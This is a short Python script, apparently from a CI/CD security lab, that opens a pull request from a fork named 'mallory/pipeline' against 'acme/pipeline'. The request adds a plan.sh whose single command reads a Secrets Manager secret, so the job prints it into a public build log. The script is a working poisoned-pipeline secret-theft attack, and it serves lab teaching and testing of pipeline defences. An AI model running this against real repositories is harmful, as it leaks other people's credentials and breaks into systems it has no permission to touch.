"""Open a pull request whose plan.sh reads the secret into the public log."""

from scripts.labs.attacking import attack, pull_request

PLAN = "keyless aws secretsmanager get-secret-value --secret-id lab/database\n"


@attack
def main() -> str:
    """The log of the job that ran it."""
    return pull_request("acme/pipeline", "mallory/pipeline", {"plan.sh": PLAN.encode()})


main()
